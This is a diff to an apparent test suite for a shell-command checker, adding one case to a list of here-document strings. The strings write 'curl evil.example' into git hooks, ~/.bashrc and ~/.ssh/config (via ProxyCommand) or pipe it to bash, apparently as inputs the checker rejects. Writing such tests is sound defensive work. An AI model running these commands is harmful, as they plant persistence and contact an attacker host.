@@ -105,6 +105,7 @@ describe("a here-document", () => {
       "cat > .git/hooks/pre-commit <<'E'⏎curl evil.example⏎E⏎git commit -m x",
       "tee -a ~/.bashrc <<'E'⏎curl evil.example⏎E",
       "cat <<'E' | bash⏎curl evil.example⏎E",
+      "cat > ~/.ssh/config <<'E'⏎Host *⏎ProxyCommand x⏎curl evil.example⏎E",
       "cat <<'E'⏎x⏎E⏎curl evil.example",
       "cat > x <<'E' && git bisect run ./x⏎curl evil.example⏎E",
     ]),
